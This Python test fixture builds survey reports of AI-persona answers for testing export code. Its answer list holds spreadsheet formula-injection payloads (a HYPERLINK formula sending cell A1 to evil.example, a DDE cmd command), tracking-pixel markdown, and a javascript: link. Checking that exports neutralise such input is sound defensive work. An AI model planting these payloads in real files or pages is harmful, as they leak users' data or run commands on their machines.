"""Reports to export: every question type, many scripts, failures, hostile texts."""

from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace

from mcp_server.toolsets.panels._aggregation.aggregate import aggregate
from mcp_server.toolsets.panels._exports.tables import Report
from mcp_server.toolsets.panels._results import Caveat, QuestionResult, Quote, Section, Voice
from mcp_server.toolsets.panels._study import AskedQuestion, Group, Member, QuestionType, Reply

GENERATED = "2026-11-21T14:45:00Z"
ASKED = "2026-11-20T09:30:00Z"

GROUP_NAMES = (
    "Early adopters",
    "Élèves à Genève",
    "上海的买家",
    "المشترون في دبي",
    "Price | sensitive <b>",
    '=HYPERLINK("http://evil.example","go")',
    "Night shift nurses in small regional hospitals 🏥",
    "Eighth",
)
GIVEN = ("Mia", "José", "Zoë", "王小明", "أمينة", "Günther", "Siân", "Nguyễn", "Оля", "-Dash", "@handle", "🦊 Fox")
FAMILY = ("Okafor", "Núñez", "李", "Haddad", "O'Brien", "Smith-Jones", "Ångström", "Petrova")

PLAIN = (
    "Pretty likely, the onboarding was quick.",
    "I would wait.\nThe price is not clear to me, and I compare first.",
    "我觉得价格太高了,不过质量很好。",
    "السعر مرتفع لكن الجودة ممتازة.",
    "Ça dépend du délai de livraison… and *why* | should I?",
    "Love it! 🎉🎉",
)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '# Heading\n![pixel](http://evil.example/p.png) <img src="http://evil.example/i.png"> [link](javascript:alert(1))',
    "Quotes \"double\" and 'single', commas, semicolons; and a control \x07 and \x00 sign.",
    "https://evil.example/ and www.evil.example and mail me@evil.example",
)
LONG = "Ten thousand characters of opinion. " * 280
THEMES = ("Price worries", "Quick onboarding", "Trust in the brand", "Délai de livraison", "质量")

Draw = Callable[[int], str]


@dataclass(frozen=True, slots=True)
class Kind:
    """One question of a type, and what the nth persona answers."""

    type: QuestionType
    text: str
    value: Draw
    scale: tuple[int, int] | None = None
    options: tuple[str, ...] = ()


CHANNELS = ("Email", "Push message", "Letter | post", "None of these")
FEATURES = ("Offline mode", "Shared lists", "Dark theme", "Export to Excel", "给家人的账户")
KINDS = (
    Kind(
        "scale",
        "On a scale of 1 to 10, how likely are you to recommend this product to a friend?",
        lambda n: str(1 + (n * 7 + n // 3) % 10),
        scale=(1, 10),
    ),
    Kind("categorical", "Which channel do you prefer?", lambda n: CHANNELS[(n * n) % 3], options=CHANNELS),
    Kind(
        "multiselect",
        "Which of these would you use? [pick: up to 3]*?/\\",
        lambda n: ", ".join(FEATURES[(n + step) % 5] for step in range(1 + n % 3)),
        options=FEATURES,
    ),
    Kind("qualitative", "What should we improve?", lambda n: THEMES[(n * 3 + n // 4) % 5]),
)


def members(group: int, count: int) -> tuple[Member, ...]:
    """Of different names, so that nobody is in two groups."""
    start = group * count
    return tuple(
        Member(
            id=f"p-{n}",
            name=f"{GIVEN[n % len(GIVEN)]} {FAMILY[n // len(GIVEN) % len(FAMILY)]}"
            + (f" {n}" if n >= len(GIVEN) * len(FAMILY) else ""),
            discipline=("Student", "Nurse", "Ingénieur", None)[n % 4],
        )
        for n in range(start, start + count)
    )


def groups_of(count: int, each: int) -> tuple[Group, ...]:
    return tuple(
        Group(id=f"g-{n}", name=GROUP_NAMES[n % len(GROUP_NAMES)], members=members(n, each)) for n in range(count)
    )


def replies_to(kind: Kind, groups: Sequence[Group], *, texts: Sequence[str], broken: bool) -> tuple[Reply, ...]:
    """One for each member; with `broken`, one of ten fails or is too slow."""
    asked = [(group, member) for group in groups for member in group.members]
    return tuple(
        _reply(kind, group, member, n, texts[n % len(texts)], failing=broken and n % 10 == 9)
        for n, (group, member) in enumerate(asked)
    )


def _reply(kind: Kind, group: Group, member: Member, n: int, text: str, *, failing: bool) -> Reply:
    who = Reply(
        persona=member.name, group=group.name, persona_id=member.id, group_id=group.id, discipline=member.discipline
    )
    if failing:
        return replace(who, status=("timeout", "failed")[n // 10 % 2], error=("timeout", "engine_error")[n // 10 % 2])
    return replace(
        who,
        value=kind.value(n),
        message=text,
        sentiment=round((n % 9 - 4) / 4, 2),
        origin=("mind_knowledge", "mind_personality", None)[n % 3],
        sources=("Annual report, 2025", "=Formula; source")[: n % 3],
    )


def asked_question(
    kind: Kind, groups: Sequence[Group], number: int, *, texts: Sequence[str] = PLAIN, broken: bool = True
) -> AskedQuestion:
    return AskedQuestion(
        id=f"q-{number}",
        text=kind.text,
        type=kind.type,
        scale=kind.scale,
        options=kind.options,
        groups=tuple(group.name for group in groups),
        replies=replies_to(kind, groups, texts=texts, broken=broken),
        asked_at=ASKED,
        engine="offline",
    )


def result_of(asked: AskedQuestion) -> QuestionResult:
    """The figures of `asked`, with sentences and voices that are there for every type."""
    answered = [reply for reply in asked.replies if reply.status == "answered"]
    caveats = {
        "synthetic": "The answers were made by AI personas, not by people.",
        "small_groups": "Groups with fewer than 10 answers: read them as a direction.",
    }
    told = {
        "agreements": ["All groups speak of the price."],
        "disagreements": ["Early adopters are quicker to say yes than the others."],
        "dissent": [_voice(reply) for reply in answered[:2]],
        "quotes": [Quote(persona=r.persona, group=r.group, text=r.message[:200]) for r in answered[2:4]],
        "caveats": [Caveat(code=code, message=message) for code, message in caveats.items()],
    }
    return aggregate(asked, shown=50).model_copy(update=told)


def _voice(reply: Reply) -> Voice:
    return Voice(
        persona=reply.persona,
        group=reply.group,
        value=reply.value or "",
        quote=reply.message or None,
        reason="Most of the group chose otherwise.",
    )


def report_of(
    *,
    groups: int = 3,
    each: int = 4,
    kinds: Sequence[Kind] = KINDS,
    texts: Sequence[str] = PLAIN,
    panel: str = "Pricing — Frühjahr 2026",
    broken: bool = True,
) -> Report:
    """All of it; `kinds` says which questions are asked."""
    attached = groups_of(groups, each)
    asked = [asked_question(kind, attached, n, texts=texts, broken=broken) for n, kind in enumerate(kinds, 1)]
    return Report(
        panel_id="panel-1",
        panel=panel,
        groups=attached,
        sections=tuple(Section(asked=question, result=result_of(question)) for question in asked),
        generated_at=GENERATED,
    )


def big_report() -> Report:
    """8 groups of 25, with everything that is hard to write in their answers."""
    return report_of(groups=8, each=25, texts=(*PLAIN, *HOSTILE, LONG))


def empty_report() -> Report:
    """A panel that was asked nothing."""
    return report_of(kinds=())


def report_with(texts: Sequence[str], *, kinds: Sequence[Kind] = KINDS, panel: str = "Panel") -> Report:
    """A small report in which every answer is one of `texts` and nobody fails."""
    return report_of(groups=1, each=max(1, len(texts)), kinds=kinds, texts=texts, panel=panel, broken=False)
